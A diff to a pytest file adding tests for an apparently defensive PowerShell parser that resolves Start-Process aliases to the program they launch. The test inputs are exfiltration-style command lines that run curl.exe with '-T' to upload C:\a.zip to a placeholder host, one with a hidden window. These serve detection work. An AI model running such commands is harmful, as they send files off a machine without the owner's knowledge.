@@ -237,3 +237,18 @@ def test_what_builds_a_script_is_followed(script: str, step: str | None) -> None
     undoing = Undoing()
     assert UPLOAD in [each.words for each in powershell.commands(script, undoing)]
     assert step is None or step in undoing.bounds.steps
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "Start-Process curl.exe -ArgumentList '-T','C:\\a.zip','http://h/'",
+        "saps curl.exe '-T C:\\a.zip http://h/' -WindowStyle Hidden -Wait",
+        "start -Wait -File curl.exe -Arg '-T C:\\a.zip http://h/'",
+        "Start-Process -FilePath:curl.exe -Args '-T','C:\\a.zip','http://h/' -NoNewWindow",
+    ],
+)
+def test_what_start_process_starts_stands_behind_names(script: str) -> None:
+    (found,) = powershell.commands(script, Undoing())
+    assert found.words[found.words.index("-FilePath") + 1] == "curl.exe"
+    assert found.words[found.words.index("-ArgumentList") + 1] == "-T C:\\a.zip http://h/"
